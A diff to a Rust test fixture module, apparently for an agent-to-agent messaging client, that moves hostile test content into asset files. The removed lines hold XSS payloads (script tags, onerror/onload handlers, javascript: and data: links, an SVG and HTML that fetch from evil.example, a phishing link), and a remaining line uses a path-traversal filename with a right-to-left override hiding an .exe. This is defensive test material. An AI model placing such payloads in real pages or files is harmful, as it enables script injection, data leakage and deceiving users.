@@ -1,6 +1,6 @@
-//! What no honest agent sends: content that would run, lead astray or break what shows it.
+//! Hostile content: it would run, lead astray or break what shows it.
 //!
-//! Invariant: whatever would run calls `window.pwned(…)` or an address at `evil.example`, so that a
+//! Content that would run calls `window.pwned(…)` or an address at `evil.example`, so that a
 //! test sees it.
 
 use a2a::{FileSource, Part};
@@ -9,38 +9,7 @@ use serde_json::{Map, Value, json};
 use super::{file, inline, text};
 
 /// Markdown that tries to be more.
-pub(super) const MARKDOWN: &str = r#"# <script>window.pwned("heading")</script>
-
-<script>window.pwned("block")</script>
-<img src=x onerror="window.pwned('img')"> <svg onload="window.pwned('svg')"></svg>
-<iframe src="https://evil.example/frame"></iframe> <style>body{display:none}</style>
-
-[run](javascript:window.pwned('link')) [run](JaVaScRiPt:window.pwned(1)) [run](java&#115;cript:window.pwned(2))
-[data](data:text/html,<script>opener.pwned(3)</script>) [blob](blob:https://evil.example/x) [file](file:///etc/passwd)
-[vb](vbscript:msgbox(1)) [relative](//evil.example/relative) [tab](java	script:window.pwned(4))
-<javascript:window.pwned(5)> <https://evil.example/auto>
-
-![pixel](https://evil.example/pixel.png) ![inline](data:image/svg+xml,<svg onload='window.pwned(6)'/>)
-
-[reference][r]
-
-[r]: javascript:window.pwned(7) "title"
-
-| <img src=x onerror=window.pwned(8)> | b |
-|---|---|
-| [c](javascript:window.pwned(9)) | `<script>window.pwned(10)</script>` |
-
-```html
-<script>window.pwned(11)</script>
-```
-
-[https://bank.example](https://evil.example/phish)
-"#;
-
-/// A picture that tries to run.
-const SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" onload="parent.pwned('svg onload')"><script>parent.pwned('svg script');fetch('https://evil.example/svg')</script><image href="https://evil.example/image.png" width="10" height="10"/><style>@import url(https://evil.example/style.css);</style><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/frame"/><img src="https://evil.example/x" onerror="parent.pwned('foreign')"/></body></foreignObject><a xlink:href="javascript:parent.pwned('a')"><circle cx="50" cy="50" r="40" fill="crimson"/></a></svg>"#;
-
-const HTML: &str = "<!doctype html><script>opener.pwned('html');fetch('https://evil.example/html')</script><img src=https://evil.example/html.png onerror=alert(1)><meta http-equiv=refresh content='0;url=https://evil.example/refresh'>";
+pub(super) const MARKDOWN: &str = include_str!("assets/hostile.md");
 
 type Given = (&'static str, &'static str, Vec<Part>);
 
@@ -95,8 +64,16 @@ fn files() -> Vec<Part> {
     let elsewhere =
         |name, address: &str| file(name, "image/png", FileSource::Uri(address.to_owned()));
     vec![
-        bytes("picture.svg", "image/svg+xml", SVG),
-        bytes("page.html", "text/html", HTML),
+        bytes(
+            "picture.svg",
+            "image/svg+xml",
+            include_str!("assets/hostile.svg"),
+        ),
+        bytes(
+            "page.html",
+            "text/html",
+            include_str!("assets/hostile.html"),
+        ),
         bytes(
             "../../../etc/cron.d/\u{202e}gnp.exe",
             "application/octet-stream",
